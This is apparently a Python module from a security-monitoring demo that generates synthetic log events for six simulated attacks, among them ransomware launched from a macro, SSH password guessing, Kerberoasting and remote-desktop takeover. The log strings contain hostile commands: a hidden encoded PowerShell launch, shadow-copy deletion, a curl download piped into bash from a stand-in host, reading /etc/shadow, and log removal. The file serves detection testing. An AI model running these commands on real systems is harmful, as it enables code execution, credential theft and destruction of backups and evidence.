"""Attacks as they unfold: steps some seconds apart; at each, rules that SENT ships fire."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from random import Random

from sent.engines.demo.company import OUTSIDE, Site
from sent.engines.demo.messages import AUTH, Sent, linux, process, security, sysmon, windows

Attack = Callable[[Random, Site, datetime], list[Sent]]

_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def attack(random: Random, site: Site, at: datetime) -> list[Sent]:
    """Return the messages of one attack on the site that begins at `at`, in the order of their times."""
    return random.choices(ATTACKS, WEIGHTS)[0](random, site, at)


def _clock(random: Random, at: datetime, low: float, high: float) -> Iterator[datetime]:
    while True:
        yield at
        at += timedelta(seconds=random.uniform(low, high))


def macro_to_ransomware(random: Random, site: Site, at: datetime) -> list[Sent]:
    """A mail's document starts PowerShell, reads passwords, installs a service, deletes the copies."""
    clock = _clock(random, at, 0.6, 2.5)
    host, user = random.choice(site.workstations), random.choice(site.users)
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    return [
        process(site, next(clock), host, user, cmd, "cmd.exe /c start /min update.bat", word),
        process(
            site, next(clock), host, user, _POWERSHELL, f"powershell.exe -nop -w hidden -enc {payload}", cmd
        ),
        sysmon(
            site,
            next(clock),
            host,
            10,
            "Process accessed: lsass.exe",
            severity=4,
            SourceImage=f"C:\\Users\\{user}\\AppData\\Local\\Temp\\upd.exe",
            TargetImage="C:\\Windows\\System32\\lsass.exe",
            GrantedAccess="0x1410",
        ),
        windows(
            site,
            next(clock),
            random.choice(site.servers),
            "System",
            7045,
            "Service Control Manager",
            severity=5,
            Message="A service was installed in the system.",
            ServiceName="wupdsvc",
            ImagePath=f"C:\\Users\\{user}\\AppData\\Local\\Temp\\upd.exe -svc",
            StartType="demand start",
        ),
        process(
            site,
            next(clock),
            host,
            user,
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            cmd,
        ),
    ]


def password_guessing(random: Random, site: Site, at: datetime) -> list[Sent]:
    """A stranger tries names on an SSH server and gets in as root in the end."""
    clock = _clock(random, at, 0.2, 0.9)
    host, stranger = site.linux[-1], random.choice(OUTSIDE)
    names = ("admin", "oracle", "test", "ubuntu", "postgres", "deploy", "git", "ftpuser")
    tries = [
        linux(
            site,
            next(clock),
            host,
            "sshd",
            f"Failed password for invalid user {name} from {stranger}"
            f" port {random.randint(30000, 60000)} ssh2",
            facility=AUTH,
        )
        for name in random.sample(names, random.randint(4, 8))
    ]
    inside = f"Accepted password for root from {stranger} port {random.randint(30000, 60000)} ssh2"
    return [*tries, linux(site, next(clock), host, "sshd", inside, facility=AUTH)]


def roasting(random: Random, site: Site, at: datetime) -> list[Sent]:
    """Somebody collects service tickets that can be broken offline."""
    clock = _clock(random, at, 0.1, 0.6)
    user = random.choice(site.users)
    return [
        security(
            site,
            next(clock),
            site.servers[0],
            4769,
            "A Kerberos service ticket was requested.",
            TargetUserName=f"{user}@{site.domain.upper()}",
            ServiceName=name,
            TicketEncryptionType="0x17",
            Status="0x0",
            IpAddress=f"::ffff:{site.network}.{random.randint(20, 240)}",
        )
        for name in ("svc-sql", "svc-backup", "svc-web", "svc-scan")
    ]


def dubious_administration(random: Random, site: Site, at: datetime) -> list[Sent]:
    """A colleague pipes a download into a shell, tries what he may not, tidies up too well."""
    clock = _clock(random, at, 1.5, 5.0)
    host, user = random.choice(site.linux), random.choice(site.users)

    def sudo(text: str, severity: int = 5) -> Sent:
        return linux(site, next(clock), host, "sudo", text, facility=AUTH, severity=severity)

    where = f"TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND="
    return [
        sudo(f"{user} : {where}/bin/sh -c curl -fsSL http://192.0.2.66/install.sh | bash"),
        sudo(f"{random.choice(site.users)} : user NOT in sudoers ; {where}/usr/bin/cat /etc/shadow", 1),
        sudo(f"{user} : {where}/usr/bin/rm -f /var/log/auth.log.1"),
    ]


def remote_takeover(random: Random, site: Site, at: datetime) -> list[Sent]:
    """Remote desktop from the internet, a new administrator, an emptied log."""
    clock = _clock(random, at, 1.0, 4.0)
    host, user = random.choice(site.servers), random.choice(site.users)
    return [
        security(
            site,
            next(clock),
            host,
            4624,
            "An account was successfully logged on.",
            TargetUserName=user,
            LogonType=10,
            IpAddress=random.choice(OUTSIDE),
        ),
        security(
            site,
            next(clock),
            host,
            4732,
            "A member was added to a security-enabled local group.",
            severity=5,
            SubjectUserName=user,
            TargetUserName="Administrators",
            TargetSid="S-1-5-32-544",
            MemberName="CN=support2",
        ),
        windows(
            site,
            next(clock),
            host,
            "Security",
            1102,
            "Microsoft-Windows-Eventlog",
            severity=4,
            Message="The audit log was cleared.",
            SubjectUserName=user,
        ),
    ]


def name_probe(random: Random, site: Site, at: datetime) -> list[Sent]:
    """A stranger knocks at the SSH server with names that do not exist."""
    clock = _clock(random, at, 0.5, 2.0)
    host, stranger = random.choice(site.linux), random.choice(OUTSIDE)
    return [
        linux(
            site,
            next(clock),
            host,
            "sshd",
            f"Invalid user {name} from {stranger} port {random.randint(30000, 60000)}",
            facility=AUTH,
        )
        for name in random.sample(("pi", "guest", "support", "nagios", "minecraft"), 3)
    ]


ATTACKS: tuple[Attack, ...] = (
    name_probe,
    password_guessing,
    dubious_administration,
    roasting,
    remote_takeover,
    macro_to_ransomware,
)
WEIGHTS = (6, 3, 3, 2, 2, 2)
